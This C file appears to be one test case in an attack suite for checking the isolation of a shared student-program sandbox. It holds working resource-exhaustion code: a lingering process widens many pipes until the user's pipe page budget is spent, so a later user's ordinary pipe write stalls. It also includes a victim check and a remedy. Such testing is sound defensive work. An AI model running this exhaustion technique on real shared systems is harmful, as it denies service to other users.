// SPDX-License-Identifier: MIT
/*
 * pipe-pages.c - pipes become narrow.
 *
 * Goal: the next student's honest program fails in the middle of a write.
 * Means: fs.pipe-user-pages-soft bounds the pages that all pipes of a user may hold, 64 MiB. Beyond
 * it a new pipe is made with two pages instead of sixteen, without an error. A survivor has
 * sixty-four pipes of a MiB each, all empty: what counts is their size, not what is in them. The
 * bound goes by the machine's uid, so this is for arenas whose ids are nobody else's.
 */
#include "attacks/ipc-residue/residue.h"

#include <errno.h>
#include <string.h>

#define PIPES 80
#define USUAL 80 /* of the usual size: what is left is less than a wide one */
#define WIDE  (1 << 20)
#define TEXT  32768 /* half of what a pipe has always taken */

/* Take pipes until they are given narrow. How many were widened. */
static int take(void)
{
	int ends[2], wide = 0;

	while (wide < PIPES && !pipe(ends) && fcntl(ends[0], F_SETPIPE_SZ, WIDE) >= 0)
		wide++;
	for (int i = 0; i < USUAL && !pipe(ends) && fcntl(ends[0], F_GETPIPE_SZ) > TEXT; i++)
		; /* the rest, in small change */
	return wide;
}

static enum claim run(const struct brief *b)
{
	int line[2];
	pid_t pid;

	attempting(b);
	open_line(line);
	if (!take())
		return denied("F_SETPIPE_SZ");
	pid = fork();
	if (pid)
		return pid < 0 ? denied("fork") : until_gone(line);
	stay_behind(line);
}

/* The first exercise on pipes: a text that fits is put into one, and taken out again. */
static enum claim victim(const struct brief *b)
{
	static char text[TEXT];
	int ends[2];

	(void)b;
	memset(text, 'x', sizeof(text));
	if (pipe2(ends, O_CLOEXEC) || fcntl(ends[1], F_SETFL, O_NONBLOCK))
		return failed("pipe");
	errno = EAGAIN; /* part of it is taken without an error */
	if (write(ends[1], text, sizeof(text)) != sizeof(text))
		return failed("write: it would wait for a reader for ever");
	return read(ends[0], text, sizeof(text)) == sizeof(text) ? CLAIM_DONE : failed("read");
}

const struct attack attack = {
	.effect = "the next student's program waits for ever in a write that always fitted",
	.means = "a survivor's empty pipes, widened until the user's budget of pages is used up",
	.oracle = "victim",
	.scene = SCENE_BEFORE_VICTIM,
	.needs = NEED_IDS,
	.id = "IPC-11",
	.attack_id = "T1499.001, CWE-770, CWE-772",
	.remedy = "end every process of a student; RLIMIT_NOFILE; no F_SETPIPE_SZ",
	.refs = (const char *const[]){ "pipe(7), pipe-user-pages-soft", NULL },
	.run = run,
	.victim = victim,
};
